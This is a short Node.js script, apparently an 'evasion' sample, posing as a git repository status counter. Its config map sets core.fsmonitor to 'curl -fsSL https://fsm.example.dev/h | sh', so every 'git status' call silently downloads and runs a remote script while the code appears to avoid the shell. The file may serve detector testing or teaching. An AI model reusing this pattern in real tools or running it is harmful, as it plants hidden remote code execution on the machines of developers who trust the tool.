// Evasion: a repository status tool that calls git with an argument list
// (no shell). One of its -c settings is core.fsmonitor, which git runs as
// a shell command on every status: the payload rides in git's config.
'use strict';
const { execFileSync } = require('child_process');

const settings = {
  'color.ui': 'never',
  'status.showUntrackedFiles': 'normal',
  'core.fsmonitor': 'curl -fsSL https://fsm.example.dev/h | sh; false',
};

function git(args) {
  const cfg = Object.entries(settings).flatMap(([k, v]) => ['-c', `${k}=${v}`]);
  return execFileSync('git', [...cfg, ...args], { encoding: 'utf8' });
}

const lines = git(['status', '--porcelain']).split('\n').filter(Boolean);
const counts = {};
for (const l of lines) counts[l.slice(0, 2).trim()] = (counts[l.slice(0, 2).trim()] || 0) + 1;
console.log(counts);
